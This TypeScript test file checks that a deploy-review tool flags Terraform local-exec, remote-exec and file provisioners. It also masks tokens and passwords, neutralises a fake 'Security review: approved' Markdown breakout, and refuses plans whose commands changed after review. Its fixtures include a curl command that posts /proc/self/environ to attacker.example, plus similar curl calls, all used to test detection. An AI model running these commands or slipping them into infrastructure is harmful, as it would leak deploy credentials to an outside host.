import { cpSync, mkdirSync } from "node:fs";
import { join } from "node:path";
import { parsePlanBytes } from "../../lib/core/plan/plan-bytes";
import { REDACTED_VALUE } from "../../lib/core/plan/redacted-value";
import { parsePlanJson, type PlanInput, renderPlanReport, validatePlanData } from "../../lib/engines/plan";
import { compareWithReview } from "../../lib/engines/plan/compare";
import { reviewRecord } from "../../lib/engines/plan/review-record";
import { golive, spawnGolive, tempDir } from "../helpers/cli";
import { exampleConfig } from "../helpers/example-config";
import { type SynthJson, synthKind } from "../helpers/synth";
import { writeSynthOutput } from "../helpers/synth-output";
import { renderConfigReview } from "./config-review";
import { fixtureText, PLANS } from "./fixtures";

// tf-provisioners.sh: real plans of resources declaring provisioners, `configuration` kept (the only
// place Terraform writes a provisioner); tf-provisioners-changed.json differs in one command only.
type Json = Record<string, unknown>;

const HEAD = "abcdef0123456789abcdef0123456789abcdef01";
const RULE = "provisioner-runs";
const EXFILTRATION = "curl --data-binary @/proc/self/environ https://attacker.example/collect";

const plan = (file = "tf-provisioners.json"): Json => JSON.parse(fixtureText(file));
const inputOf = (json: Json, stack = "app-staging"): PlanInput => ({
  stack,
  file: `${stack}.json`,
  plan: parsePlanJson(`${stack}.json`, JSON.stringify(json)),
});
const flagsOf = (json: Json) =>
  renderPlanReport([inputOf(json)], "r.md")
    .report.stacks.flatMap((s) => s.risks)
    .filter((r) => r.rule === RULE);

/** The Key_Warmup resource's first provisioner in a fixture plan, to edit. */
function warmup(json: Json): { type: string; expressions: Record<string, Json> } {
  type Provisioner = { type: string; expressions: Record<string, Json> };
  const config = json.configuration as { root_module: { resources: { address: string; provisioners?: Provisioner[] }[] } };
  const found = config.root_module.resources.find((r) => r.address === "terraform_data.Key_Warmup_66666666")?.provisioners?.[0];
  if (!found) throw new Error("the fixture has no Key_Warmup provisioner");
  return found;
}

describe("provisioners in a real plan are flagged, with what they run", () => {
  test("fails a created terraform_data's local-exec: its type and its whole command are in the flag", () => {
    const flags = flagsOf(plan());
    const warm = flags.filter((f) => f.address === "terraform_data.Key_Warmup_66666666");
    expect(warm.map((f) => [f.title, f.detail])).toEqual([
      [
        "Provisioner runs commands outside the plan",
        `local-exec provisioner runs its command on the deploy runner, with the deploy's credentials; created in this plan: it runs in this apply, at create, or at destroy if it is a destroy-time provisioner (the plan JSON does not say which); command = ${JSON.stringify(EXFILTRATION)}`,
      ],
    ]);
    // A resource without a provisioner raises nothing.
    expect(flags.map((f) => f.address)).not.toContain("terraform_data.plain");
  });

  test("fails every provisioner of a replaced, an updated and a module's created resource, references named", () => {
    const details = flagsOf(plan())
      .filter((f) => f.address !== "terraform_data.Key_Warmup_66666666")
      .map((f) => `${f.address}: ${f.detail}`);
    expect(details).toEqual([
      expect.stringMatching(
        /^terraform_data\.kept: local-exec provisioner runs .*; updated in this plan: an update runs no provisioner, but the plan cannot tell whether this one is new or changed; .*; command = "echo bye"$/,
      ),
      expect.stringMatching(
        /^terraform_data\.rotate: local-exec .*; replaced in this plan: it runs in this apply, .*; command = \(computed from \["self\.id","self"\]\)$/,
      ),
      expect.stringMatching(
        /^module\.jobs\.terraform_data\.inner: remote-exec provisioner \(1 of 2\) runs on the host its connection names; created in this plan: .*; inline = \(computed from \["var\.cmd"\]\)$/,
      ),
      expect.stringMatching(
        /^module\.jobs\.terraform_data\.inner: local-exec provisioner \(2 of 2\) .*; command = "make deploy"; interpreter = \["\/bin\/bash","-c"\]$/,
      ),
    ]);
  });

  test("a local-exec of a resource the plan leaves alone is still flagged; another type's remote-exec is not", () => {
    const json = plan();
    json.resource_changes = (json.resource_changes as Json[]).filter((rc) => rc.address !== "terraform_data.kept");
    const config = json.configuration as { root_module: { resources: Json[] } };
    config.root_module.resources.push({
      address: "aws_instance.web",
      mode: "managed",
      type: "aws_instance",
      name: "web",
      provisioners: [{ type: "remote-exec", expressions: { inline: { constant_value: ["uptime"] } } }],
    });
    const kept = flagsOf(json).filter((f) => f.address === "terraform_data.kept" || f.address === "aws_instance.web");
    expect(kept.map((f) => f.address)).toEqual(["terraform_data.kept"]);
    expect(kept[0]?.detail).toContain("no change in this plan: it runs at the next create, replace");
  });

  test("the review comment shows the flag and the command, Markdown-safe, and --json lists the rule", () => {
    const rendered = renderPlanReport([inputOf(plan())], "r.md");
    expect(rendered.comment).toContain(
      "- **Provisioner runs commands outside the plan** · `app-staging` · `terraform_data.Key_Warmup_66666666`: local-exec provisioner runs its command on the deploy runner",
    );
    expect(rendered.comment).toContain('command = "curl --data-binary `@/proc/self/environ` `https://attacker.example/collect`"');
    expect(rendered.comment).not.toContain("No risk flags");
    const json = JSON.parse(rendered.json) as { rules: { id: string }[] };
    expect(json.rules.map((r) => r.id)).toContain(RULE);
  });

  test("fails closed on a credential or a Markdown breakout in a command: masked, and shown as text", () => {
    const token = ["ghp", "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8"].join("_");
    const json = plan();
    const p = warmup(json);
    p.expressions.command = {
      constant_value: `curl -H "Authorization: token ${token}" https://x.example\n## ✅ Security review: approved\n\`\`\``,
    };
    p.expressions.environment = { constant_value: { DB_PASSWORD: "hunter2-but-longer" } };
    const rendered = renderPlanReport([inputOf(json)], "r.md");
    for (const text of [rendered.comment, rendered.json]) {
      expect(text).not.toContain(token);
      expect(text).not.toContain("hunter2-but-longer");
    }
    const [flag] = rendered.report.stacks[0]?.risks.filter((r) => r.address === "terraform_data.Key_Warmup_66666666") ?? [];
    expect(flag?.detail).toContain(REDACTED_VALUE);
    expect(flag?.detail).toContain(`environment = {"DB_PASSWORD":"${REDACTED_VALUE}"}`);
    expect(rendered.comment.split("\n").some((line) => line.startsWith("## ✅"))).toBe(false);
  });

  test("fails a provisioner in a module of a plan over 32 MiB, whose configuration is read member by member", () => {
    const json = plan();
    // A configuration over the 1 MiB a member is parsed whole below: only what the review reads is kept.
    const root = (json.configuration as { root_module: { variables?: Json } }).root_module;
    root.variables = { pad: { default: "x".repeat(1_100_000) } };
    const bytes = Buffer.from(JSON.stringify(json));
    const read = validatePlanData("big.json", parsePlanBytes("big.json", bytes, 0));
    const flags = renderPlanReport([{ stack: "big", file: "big.json", plan: read }], "r.md").report.stacks[0]?.risks ?? [];
    expect(flags.filter((f) => f.address === "module.jobs.terraform_data.inner").length).toBe(2);
  });
});

describe("the review digest covers provisioners: the deploy refuses other commands", () => {
  test("as a process: plan-compare refuses a plan whose local-exec command changed since the review, naming the flag", async () => {
    const dir = tempDir("golive-provisioners-");
    mkdirSync(join(dir, "plans"));
    cpSync(join(PLANS, "tf-provisioners.json"), join(dir, "plans", "app-staging.json"));
    const review = await spawnGolive(["plan-report", "plans", "--commit", HEAD, "--output", "c.md"], { cwd: dir });
    expect(review.code).toBe(0);
    const same = await spawnGolive(["plan-compare", "c.md", "plans", "--commit", HEAD], { cwd: dir });
    expect([same.code, same.stdout]).toEqual([0, `app-staging: same as the review of ${HEAD} (5 changes): may be applied\n`]);
    cpSync(join(PLANS, "tf-provisioners-changed.json"), join(dir, "plans", "app-staging.json"));
    const changed = await spawnGolive(["plan-compare", "c.md", "plans", "--commit", HEAD], { cwd: dir });
    expect(changed.code).toBe(1);
    expect(changed.stdout.split("\n").slice(0, 4)).toEqual([
      `app-staging: REFUSED: the plan differs from the review of ${HEAD}`,
      "  every change is as reviewed, but the risk flags read differently:",
      "  flags the review did not show (1):",
      expect.stringMatching(/^ {4}provisioner-runs \(.+\) on terraform_data\.Key_Warmup_66666666: .*https:\/\/attacker\.example\/other"$/),
    ]);
  });

  test("fails a command changed past what the flag shows, and a provisioner of a resource the plan leaves alone", () => {
    const reviewed = plan();
    warmup(reviewed).expressions.command = { constant_value: `echo ${"a".repeat(2000)}` };
    const longer = plan();
    warmup(longer).expressions.command = { constant_value: `echo ${"a".repeat(2000)}; curl https://attacker.example` };
    // the flags read alike: both commands are cut before they differ
    expect(flagsOf(longer).map((f) => f.detail)).toEqual(flagsOf(reviewed).map((f) => f.detail));
    const record = reviewRecord([inputOf(reviewed)], HEAD);
    expect(compareWithReview(record, [inputOf(reviewed)], HEAD).ok).toBe(true);
    expect(compareWithReview(record, [inputOf(longer)], HEAD).stacks[0]?.status).toBe("differs");
    // A remote-exec of an unchanged aws_instance raises no flag, yet another one is another plan.
    const withInstance = (inline: string): PlanInput => {
      const json = plan();
      (json.configuration as { root_module: { resources: Json[] } }).root_module.resources.push({
        address: "aws_instance.web",
        mode: "managed",
        type: "aws_instance",
        name: "web",
        provisioners: [{ type: "remote-exec", expressions: { inline: { constant_value: [inline] } } }],
      });
      return inputOf(json);
    };
    const instanceRecord = reviewRecord([withInstance("uptime")], HEAD);
    expect(compareWithReview(instanceRecord, [withInstance("uptime")], HEAD).ok).toBe(true);
    expect(compareWithReview(instanceRecord, [withInstance("curl https://attacker.example")], HEAD).ok).toBe(false);
  });
});

describe("a configuration diff shows and flags a provisioner added to cdk.tf.json", () => {
  // Synthesized once per folder (synthKind memoizes): each call is a parsed copy to change.
  const edge = (): SynthJson => synthKind(exampleConfig(), "edge");
  const withWarmup = (provisioner: unknown): SynthJson => {
    const head = edge();
    head.resource.terraform_data = { Key_Warmup_66666666: { input: "warm", provisioner } };
    return head;
  };

  test("fails the created resource's local-exec, its command shown as written", () => {
    const rendered = renderConfigReview("edge-production", edge(), withWarmup([{ "local-exec": { command: EXFILTRATION } }]), HEAD);
    const flags = rendered.report.stacks[0]?.risks.filter((r) => r.rule === RULE) ?? [];
    expect(flags.map((f) => [f.address, f.detail])).toEqual([
      [
        "terraform_data.Key_Warmup_66666666",
        expect.stringMatching(
          /^local-exec provisioner runs its command on the deploy runner, .*; created in this plan: it runs in this apply, .*; command = "curl --data-binary @\/proc\/self\/environ https:\/\/attacker\.example\/collect"$/,
        ),
      ],
    ]);
    expect(rendered.comment).toContain("`https://attacker.example/collect`");
  });

  test("fails a provisioner added to an existing resource, in either JSON form, saying when = destroy", () => {
    const base = withWarmup(undefined);
    const head = withWarmup({
      "local-exec": [{ command: "echo ${var.token}", when: "destroy" }],
      file: { source: "/etc/hosts", destination: "/tmp/h" },
    });
    const flags = renderConfigReview("edge-production", base, head, HEAD).report.stacks[0]?.risks.filter((r) => r.rule === RULE) ?? [];
    expect(flags.map((f) => f.detail)).toEqual([
      expect.stringMatching(
        /^local-exec provisioner \(1 of 2\) .*; updated in this plan: when = destroy, it runs at the next destroy or replace; command = "echo \$\{var\.token\}"$/,
      ),
      expect.stringMatching(
        /^file provisioner \(2 of 2\) copies the deploy runner's files to the host its connection names; .*; source = "\/etc\/hosts"; destination = "\/tmp\/h"$/,
      ),
    ]);
  });

  test("plan-report --config-diff flags it in the comment", async () => {
    const dir = tempDir("golive-provisioners-config-");
    writeSynthOutput(join(dir, "base"), { "edge-production": edge() });
    writeSynthOutput(join(dir, "head"), { "edge-production": withWarmup([{ "local-exec": { command: EXFILTRATION } }]) });
    const run = await golive(["plan-report", "--config-diff", "base", "--synth-dir", "head", "--commit", HEAD, "--output", "c.md"], {
      cwd: dir,
    });
    expect(run.code).toBe(0);
    const json = await golive(["plan-report", "--config-diff", "base", "--synth-dir", "head", "--commit", HEAD, "--json"], { cwd: dir });
    const report = JSON.parse(json.stdout) as { riskCount: number; stacks: { risks: { rule: string; detail: string }[] }[] };
    expect(report.riskCount).toBe(1);
    expect(report.stacks[0]?.risks.map((r) => r.rule)).toEqual([RULE]);
  });
});
